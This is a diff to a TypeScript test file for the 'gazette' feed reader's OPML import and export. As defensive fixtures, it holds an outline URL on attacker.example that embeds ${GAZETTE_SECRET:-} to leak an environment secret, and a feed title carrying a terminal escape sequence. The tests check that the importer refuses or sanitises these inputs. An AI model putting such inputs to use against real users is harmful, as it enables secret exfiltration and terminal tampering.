@@ -26,6 +26,11 @@ describe("gazette feeds", () => {
   let dir: string;
   let server: FeedServer;
   const cli = (args: string[]) => runCli(["--config", "gazette.yaml", ...args], { cwd: dir });
+  /** `feeds import` of an OPML 2.0 file `name` whose body is `outlines`. */
+  const importOpml = (name: string, outlines: string, ...flags: string[]) => {
+    writeFileSync(path.join(dir, name), `<opml version="2.0"><body>\n${outlines}\n</body></opml>`);
+    return cli(["feeds", "import", name, ...flags]);
+  };
 
   beforeAll(async () => {
     server = await startFeedServer({
@@ -147,7 +152,7 @@ feeds:
     );
     const exported = await runCli(["--config", "gazette.yaml", "feeds", "export"], { cwd: local });
     expect(exported.code).toBe(0);
-    expect(parseOpml(exported.stdout).map((feed) => feed.name)).toEqual(["Web Blog"]);
+    expect(parseOpml(exported.stdout).feeds.map((feed) => feed.name)).toEqual(["Web Blog"]);
     expect(exported.stdout).not.toContain("local.xml");
     expect(exported.stderr).toContain(
       "! 1 feed left out: local files, which another reader cannot fetch (Local Notes)",
@@ -157,7 +162,7 @@ feeds:
   it("exports OPML and imports it back into the config, comments kept and known feeds skipped", async () => {
     const exported = await cli(["feeds", "export"]);
     expect(exported.code).toBe(0);
-    const feeds = parseOpml(exported.stdout);
+    const { feeds } = parseOpml(exported.stdout);
     expect(feeds.map((feed) => feed.name)).toEqual([
       "OK Blog",
       "Down Blog",
@@ -187,6 +192,26 @@ feeds:
     expect((await cli(["feeds"])).stdout).toMatch(/New & Shiny\s+never fetched/);
   });
 
+  it("reads feed: URLs as http(s), and names each outline it skips on stderr and counts it", async () => {
+    const result = await importOpml(
+      "exported.opml",
+      `<outline text="Old Style" xmlUrl="feed://old-style.example/rss.xml"/>
+<outline text="Wrapped" xmlUrl="feed:https://wrapped.example/atom.xml"/>
+<outline text="My Notes" xmlUrl="file:///home/me/notes.xml"/>
+<outline text="Relative&#x1b;[2J" xmlUrl="feeds/relative.xml"/>`,
+      "--dry-run",
+    );
+    expect(result.code).toBe(0);
+    expect(result.stdout).toMatch(/^\+ Old Style {2}http:\/\/old-style\.example\/rss\.xml$/m);
+    expect(result.stdout).toMatch(/^\+ Wrapped {2}https:\/\/wrapped\.example\/atom\.xml$/m);
+    expect(result.stdout).toMatch(/^2 feeds would be added, 2 skipped \(not http\(s\)\) \(/m);
+    expect(withoutCreatedNotice(result.stderr).trim().split("\n")).toEqual([
+      "! My Notes  file:///home/me/notes.xml: skipped: not an http(s) URL",
+      // The escape sequence in the title never reaches the terminal.
+      "! Relative[2J  feeds/relative.xml: skipped: not an http(s) URL",
+    ]);
+  });
+
   it("names the file that is not OPML, in one gazette: line", async () => {
     writeFileSync(path.join(dir, "people.csv"), "email,name\nann@example.com,Ann\n");
     const result = await cli(["feeds", "import", "people.csv"]);
@@ -197,14 +222,11 @@ feeds:
   });
 
   it("refuses imported feeds that would read the environment, and adds the others", async () => {
-    writeFileSync(
-      path.join(dir, "blogroll.opml"),
-      `<opml version="2.0"><body>
-<outline text="Leaky" xmlUrl="https://attacker.example/feed.xml?k=\${GAZETTE_SECRET:-}"/>
-<outline text="Plain" xmlUrl="https://plain.example/feed"/>
-</body></opml>`,
+    const result = await importOpml(
+      "blogroll.opml",
+      `<outline text="Leaky" xmlUrl="https://attacker.example/feed.xml?k=\${GAZETTE_SECRET:-}"/>
+<outline text="Plain" xmlUrl="https://plain.example/feed"/>`,
     );
-    const result = await cli(["feeds", "import", "blogroll.opml"]);
     expect(result.code).toBe(0);
     expect(result.stdout).toMatch(
       /! https:\/\/attacker\.example\/feed\.xml\?k=\$\{GAZETTE_SECRET:-\}: refused: its url holds "\$\{"/,
